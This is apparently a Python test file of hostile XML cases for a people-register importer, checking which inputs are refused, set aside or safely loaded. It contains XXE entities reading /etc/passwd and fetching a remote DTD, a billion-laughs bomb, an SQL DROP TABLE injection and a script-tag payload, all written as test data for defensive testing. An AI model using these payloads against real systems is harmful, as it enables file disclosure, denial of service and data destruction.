"""XML that is broken, malicious, or only strange."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from tests.hostile.corpus import SECRET, STAMP, Case, file, loaded, refused, set_aside

NAME = f"people_{STAMP}.xml"
GOOD = "<Person><Id>1</Id><Given>Ada</Given><Family>Sample</Family></Person>"
BOMB = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))


def _register(*people: str, before: str = "", root: str = "<Register>") -> bytes:
    body = "\n".join(people)
    return f"{before}{root}\n<People>\n{body}\n</People>\n</Register>\n".encode()


def _person(inside: str = "") -> str:
    return f"<Person><Id>2</Id><Given>{SECRET}</Given><Family>Sample</Family>{inside}</Person>"


def cases() -> Iterator[Case]:
    contents: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
        "a billion laughs": (
            _register(
                _person("<Note>&e9;</Note>"), before=f'<!DOCTYPE R [<!ENTITY e0 "ha">{BOMB}]>'
            ),
            "doctype",
        ),
        "an entity from a file": (
            _register(before='<!DOCTYPE R [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
            "doctype",
        ),
        "an entity from the network": (
            _register(before='<!DOCTYPE R [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>'),
            "doctype",
        ),
        "a bare DOCTYPE": (_register(GOOD, before="<!DOCTYPE Register>"), "doctype"),
        "a DOCTYPE in UTF-16": (
            _register(before="<!DOCTYPE R>").decode().encode("utf-16"),
            "wrong_encoding",
        ),
        "100,000 elements in one another": (
            lambda: _register("<a>" * 100_000 + "</a>" * 100_000),
            "too_deep",
        ),
        "a text of 32 MB": (
            lambda: _register(_person(f"<Note>{'x' * (32 << 20)}</Note>")),
            "too_large",
        ),
        "a comment of 32 MB": (lambda: _register(f"<!--{'x' * (32 << 20)}-->"), "too_large"),
        "100,000 attributes": (
            lambda: _register("<Person " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>"),
            "other_feed",
        ),
        "another namespace": (_register(GOOD, root='<Register xmlns="urn:other">'), "namespace"),
        "another root": (b"<Return><People/></Return>", "other_root"),
        "a cut end": (_register(GOOD)[:-20], "not_well_formed"),
        "tags that cross": (_register("<Person><Id>2</Person></Id>"), "not_well_formed"),
        "nobody in it": (_register(), "no_records"),
        "an undeclared entity": (_register(_person("<Note>&nbsp;</Note>")), "not_well_formed"),
        "UTF-7": (b'<?xml version="1.0" encoding="UTF-7"?><Register/>', "wrong_encoding"),
    }
    for name, (content, rule) in contents.items():
        yield refused(f"XML: {name}", "register", file(NAME, content), rule)
    no_key = "<Person><Given>x</Given><Family>y</Family></Person>"
    yield set_aside(
        "XML: nobody's key", "register", file(NAME, _register(GOOD, no_key)), 1, "required"
    )
    long = _register(GOOD, _person(f"<Note>{'x' * 100_000}</Note>"))
    yield set_aside(
        "XML: a note of 100,000 letters", "register", file(NAME, long), 2, "value_too_long"
    )
    sql = _register(GOOD, _person("<Note>'); DROP TABLE raw.register__people; --</Note>"))
    yield loaded("XML: SQL in a value", "register", file(NAME, sql), 2)
    markup = _register(GOOD, _person("<Note><![CDATA[<script>alert(1)</script>]]></Note>"))
    yield loaded("XML: markup in a value", "register", file(NAME, markup), 2)
    steps = _register(GOOD, _person("<?xml-stylesheet href='http://192.0.2.1/x.xsl'?>"))
    yield loaded("XML: an instruction to a program", "register", file(NAME, steps), 2)
